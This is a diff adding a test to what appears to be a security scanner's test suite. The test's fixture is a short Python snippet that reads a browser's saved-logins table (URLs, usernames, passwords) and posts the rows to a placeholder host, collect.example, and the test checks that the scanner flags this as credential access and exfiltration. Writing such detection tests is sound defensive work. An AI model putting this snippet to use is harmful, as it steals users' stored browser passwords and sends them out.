@@ -238,3 +238,26 @@ test("a Discord token's shape written as a regular expression marks what is matc
   assert.equal(sent?.severity, 'high');
   assert.match(sent!.message, /Discord tokens/);
 });
+
+test("a query of the browser's saved-logins table is browser credentials, and posting its rows is exfiltration", () => {
+  const source = [
+    'import sqlite3, requests',
+    'class Collector:',
+    '    def rows(self, db):',
+    '        con = sqlite3.connect(db)',
+    '        return con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()',
+    '    def send(self, db):',
+    '        requests.post("https://collect.example/u", data={"rows": str(self.rows(db))})',
+  ].join('\n');
+  const list = findings(source);
+  assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /browser credentials/);
+  assert.match(list.find((f) => f.rule === 'exfiltration')?.message ?? '', /browser credentials/);
+  // a column of that name in the application's own table is not the browser's
+  const own = findings(
+    'import sqlite3\ndef load(con):\n    return con.execute("SELECT password_value FROM accounts").fetchall()\n',
+  );
+  assert.equal(
+    own.find((f) => f.rule === 'sensitive-file-access'),
+    undefined,
+  );
+});
